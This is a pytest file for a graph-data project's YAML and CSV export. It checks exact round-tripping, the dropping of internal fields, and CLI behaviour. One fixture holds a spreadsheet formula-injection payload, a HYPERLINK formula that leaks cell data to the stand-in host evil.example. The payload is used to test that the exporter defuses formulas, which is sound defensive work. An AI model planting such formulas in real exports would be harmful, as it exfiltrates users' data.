"""Export: the graph read back gives exactly the records that were ingested, as YAML and CSV."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
import yaml
from ingest_helpers import cli, edit_yaml, fingerprint_from_empty, record, seed_copy

from govgraph.graph.db import Database
from govgraph.graph.models import record_models
from govgraph.graph.revision import graph_fingerprint
from govgraph.ingest.export import read_csv, read_graph, write_csv, write_yaml
from govgraph.ingest.validate import Dataset, load_dataset
from govgraph.ingest.writer import ingest

# Text a spreadsheet would run as a formula (OWASP's characters), and text that only looks close.
FORMULA_VALUES = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Meta")',
    "summary": "@SUM(1+1) releases open-weight models",
    "event_summary": "+1 pressed Meta to join the voluntary review.",
    "title": "-2+3 and a title",
}
FORMULA_ALIASES = ["-3", "'=already quoted", "'plain apostrophe", "''+two quotes", "Meta"]


def formula_folder(folder: Path) -> Path:
    """The seed file with formula-like text in an actor, an event and a source."""
    folder.mkdir(parents=True, exist_ok=True)
    with edit_yaml(seed_copy(folder)) as data:
        meta = record(data, "actors", "org:meta")
        meta["name"] = FORMULA_VALUES["name"]
        meta["summary"] = FORMULA_VALUES["summary"]
        meta["aliases"] = FORMULA_ALIASES
        event = record(data, "events", "event:2026-administration-presses-meta")
        event["summary"] = FORMULA_VALUES["event_summary"]
        data["sources"][0]["title"] = FORMULA_VALUES["title"]
    return folder


def dumps(dataset: Dataset) -> dict[str, dict[str, str]]:
    """type -> id -> canonical JSON of record.dump()."""
    return {
        name: {loc.id: json.dumps(loc.record.dump(), sort_keys=True) for loc in records}
        for name, records in dataset.records.items()
    }


@pytest.fixture
def ingested(clean_db: Database, dataset: Dataset) -> tuple[Database, Dataset]:
    """The curated data written into an empty graph."""
    ingest(clean_db, dataset)
    return clean_db, dataset


def test_yaml_export_round_trips_exactly(
    ingested: tuple[Database, Dataset], tmp_path: Path
) -> None:
    db, dataset = ingested
    result = read_graph(db)
    files = write_yaml(result, tmp_path / "out")
    assert [f.name for f in files] == [
        "sources.yaml",
        "actors.yaml",
        "instruments.yaml",
        "events.yaml",
    ]
    assert result.ignored == {}
    back = load_dataset([tmp_path / "out"])
    assert dumps(back) == dumps(dataset)
    assert back.count() == dataset.count()


def test_export_keeps_role_order_and_drops_internal_properties(
    ingested: tuple[Database, Dataset],
    tmp_path: Path,
) -> None:
    db, dataset = ingested
    result = read_graph(db)
    events = {r["id"]: r for r in result.records["Event"]}
    for loc in dataset.of("Event"):
        rec = loc.record.dump()
        assert [p["actor"] for p in events[loc.id]["participants"]] == [
            p["actor"] for p in rec["participants"]
        ]
        assert events[loc.id]["sources"] == rec["sources"]
    text = "".join(p.read_text() for p in write_yaml(result, tmp_path))
    for internal in (
        "content_hash",
        "search_text",
        "date_precision",
        "date_earliest",
        "date_latest",
        "published_latest",
    ):
        assert internal not in text
    order = events["event:2026-administration-presses-meta"]["participants"]
    assert order == [
        {"actor": "office:white-house", "role": "presser"},
        {"actor": "org:meta", "role": "subject"},
    ]
    source = next(
        r for r in result.records["Source"] if r["id"] == "src:article-2026-caisi-meta-holdout"
    )
    assert source["retrieved"] == "2026-11-29"
    # a range whose start the stored copy fixed and whose end is the day it was read
    assert source["published"] == "2026-06-23/2026-11-29"
    raw = yaml.safe_load((tmp_path / "sources.yaml").read_text())
    assert all(isinstance(r["recorded_at"], str) for r in raw["sources"])  # quoted in YAML


def test_export_is_deterministic(ingested: tuple[Database, Dataset], tmp_path: Path) -> None:
    db, _ = ingested
    a = write_yaml(read_graph(db), tmp_path / "a")
    b = write_yaml(read_graph(db), tmp_path / "b")
    assert [p.read_bytes() for p in a] == [p.read_bytes() for p in b]


def test_csv_export_round_trips_exactly(ingested: tuple[Database, Dataset], tmp_path: Path) -> None:
    db, dataset = ingested
    files = write_csv(read_graph(db), tmp_path)
    assert [f.name for f in files] == ["sources.csv", "actors.csv", "instruments.csv", "events.csv"]
    models = record_models()
    back = {
        name: {
            r["id"]: json.dumps(models[name].model_validate(r).dump(), sort_keys=True) for r in rows
        }
        for name, rows in read_csv(tmp_path).items()
    }
    assert back == dumps(dataset)
    header = next(csv.reader(io.StringIO((tmp_path / "events.csv").read_text())))
    assert ",".join(header) == (
        "id,type,date,summary,status,participants,concerns,sources,note,former_ids,recorded_at"
    )


def test_csv_export_defuses_formulas_and_still_round_trips(
    clean_db: Database, tmp_path: Path
) -> None:
    dataset = load_dataset([formula_folder(tmp_path / "data")])
    ingest(clean_db, dataset)
    files = write_csv(read_graph(clean_db), tmp_path / "csv")
    text = {f.name: f.read_text(encoding="utf-8") for f in files}
    cells = [c for t in text.values() for row in csv.reader(io.StringIO(t)) for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + FORMULA_VALUES["name"] in cells
    assert "'" + FORMULA_VALUES["summary"] in cells
    assert "'" + FORMULA_VALUES["title"] in cells
    models = record_models()
    back = {
        name: {
            r["id"]: json.dumps(models[name].model_validate(r).dump(), sort_keys=True) for r in rows
        }
        for name, rows in read_csv(tmp_path / "csv").items()
    }
    assert back == dumps(dataset)
    meta = next(r for r in read_csv(tmp_path / "csv")["Actor"] if r["id"] == "org:meta")
    assert meta["name"] == FORMULA_VALUES["name"] and meta["aliases"] == FORMULA_ALIASES


def test_the_export_ingests_into_the_same_graph_shape(
    ingested: tuple[Database, Dataset], tmp_path: Path
) -> None:
    db, _ = ingested
    before = graph_fingerprint(db, history=False)
    write_yaml(read_graph(db), tmp_path)
    after = fingerprint_from_empty(db, load_dataset([tmp_path]))
    assert after["labels"] == before["labels"]
    assert after["relationships"] == before["relationships"]


def test_undeclared_properties_are_reported_not_exported(
    ingested: tuple[Database, Dataset], tmp_path: Path
) -> None:
    db, dataset = ingested
    db.write(lambda tx: tx.run("MATCH (n:Actor {id: 'org:meta'}) SET n.colour = 'blue'").consume())
    result = read_graph(db)
    assert result.ignored == {"Actor": {"colour"}}
    write_yaml(result, tmp_path)
    assert dumps(load_dataset([tmp_path])) == dumps(dataset)


def test_an_empty_graph_exports_empty_files(clean_db: Database, tmp_path: Path) -> None:
    result = read_graph(clean_db)
    assert result.count() == 0
    write_yaml(result, tmp_path)
    assert load_dataset([tmp_path]).count() == 0


def test_cli_export(ingested: tuple[Database, Dataset], tmp_path: Path) -> None:
    _, dataset = ingested
    result = cli("export", "--out", str(tmp_path / "y"))
    assert result.returncode == 0, result.stderr
    assert f"{len(dataset.of('Event'))} events" in result.stdout
    assert dumps(load_dataset([tmp_path / "y"])) == dumps(dataset)
    result = cli("export", "--out", str(tmp_path / "c"), "--format", "csv")
    assert result.returncode == 0, result.stderr
    assert sorted(p.name for p in (tmp_path / "c").iterdir()) == [
        "actors.csv",
        "events.csv",
        "instruments.csv",
        "sources.csv",
    ]
    bad = cli("export", "--out", str(tmp_path / "x"), "--format", "xml")
    assert bad.returncode == 1
    assert "'xml' is not one of yaml, csv" in bad.stderr
    assert not (tmp_path / "x").exists()
